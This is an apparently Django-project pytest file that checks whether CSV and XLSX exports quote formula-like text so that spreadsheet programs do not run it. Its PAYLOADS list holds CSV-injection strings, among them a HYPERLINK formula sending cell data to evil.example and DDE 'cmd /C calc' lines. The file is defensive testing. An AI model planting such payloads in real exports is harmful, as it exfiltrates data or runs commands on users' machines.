"""Item 6 of issue 12: text that a spreadsheet program would run as a formula leaves as text, and comes back as text."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from indicators.models import IndicatorValue, InitiativeProgress
from madinati.csv import csv_cell
from tests.factories import IndicatorValueFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def officer_page(officer_client, english):
    return english(officer_client)


@pytest.mark.parametrize("note", PAYLOADS)
def test_the_xlsx_template_writes_formula_like_notes_as_quoted_text(
    entry_programme, secretariat, open_period, officer_page, note
):
    IndicatorValueFactory(indicator=entry_programme["count"], secretariat=secretariat, period=open_period, note=note)
    response = officer_page.get("/entry/import/?download=xlsx&period=2018-Q2")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    [cell] = [row[4] for row in sheet.iter_rows(min_row=2) if row[1].value == "complaints"]
    assert cell.value.strip() == note.strip()
    assert cell.data_type == "s"
    assert cell.quotePrefix
    # Numbers stay numbers.
    assert all(isinstance(c.value, int | float) for c in sheet["D"][1:] if c.value is not None)


@pytest.mark.parametrize("note", PAYLOADS[:4])
def test_the_officers_own_template_imports_again_with_its_note_intact(
    entry_programme, secretariat, open_period, officer_page, note
):
    IndicatorValueFactory(
        indicator=entry_programme["count"],
        secretariat=secretariat,
        period=open_period,
        value=Decimal("6"),
        note=note,
        workflow_status="draft",
    )
    template = officer_page.get("/entry/import/?download=xlsx&period=2018-Q2").content
    book = openpyxl.load_workbook(io.BytesIO(template))
    book.active["D3"] = 7  # the officer changes a figure and sends the sheet back
    out = io.BytesIO()
    book.save(out)
    response = officer_page.post(
        "/entry/import/", {"file": SimpleUploadedFile("t.xlsx", out.getvalue()), "period": "2018-Q2"}
    )
    assert response.status_code == 200, response.content.decode()[-2000:]
    assert "holds a formula" not in response.content.decode()
    payload = re.search(r'name="payload" value="([^"]+)"', response.content.decode()).group(1)
    confirmed = officer_page.post("/entry/import/", {"payload": payload, "period": "2018-Q2"})
    assert confirmed.status_code == 302
    row = IndicatorValue.objects.get(indicator=entry_programme["count"])
    assert (row.value, row.note) == (Decimal("7"), note)


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_csv_text_cell_that_would_run_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [(Decimal("-12.5000"), "-12.5"), (-3, "-3"), (2.5, "2.5"), ("-12.5", "-12.5"), ("+7", "+7"), ("plain", "plain")],
)
def test_numbers_stay_numbers(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.usefixtures("clear_throttles")
def test_api_csv_of_values_and_progress_carries_no_live_formula(api_programme, reviewer, token_client):
    IndicatorValue.objects.update(note=PAYLOADS[0])
    InitiativeProgress.objects.update(narrative=PAYLOADS[1])
    client = token_client(reviewer)
    for url, text in (("/api/v1/values/?format=csv", PAYLOADS[0]), ("/api/v1/progress/?format=csv", PAYLOADS[1])):
        response = client.get(url)
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + text in cells
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("note", PAYLOADS[:4])
def test_the_csv_template_quotes_the_note_and_imports_it_back_unchanged(
    entry_programme, secretariat, open_period, officer_page, note
):
    IndicatorValueFactory(
        indicator=entry_programme["count"],
        secretariat=secretariat,
        period=open_period,
        value=Decimal("6"),
        note=note,
        workflow_status="draft",
    )
    template = officer_page.get("/entry/import/?download=csv&period=2018-Q2").content
    rows = list(csv.reader(io.StringIO(template.decode("utf-8-sig"))))
    [complaints] = [row for row in rows if row[1] == "complaints"]
    assert complaints[4] == "'" + note
    complaints[3] = "7"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    upload = SimpleUploadedFile("t.csv", out.getvalue().encode("utf-8"))
    response = officer_page.post("/entry/import/", {"file": upload, "period": "2018-Q2"})
    assert response.status_code == 200, response.content.decode()[-1500:]
    payload = re.search(r'name="payload" value="([^"]+)"', response.content.decode()).group(1)
    assert officer_page.post("/entry/import/", {"payload": payload, "period": "2018-Q2"}).status_code == 302
    row = IndicatorValue.objects.get(indicator=entry_programme["count"])
    assert (row.value, row.note) == (Decimal("7"), note)
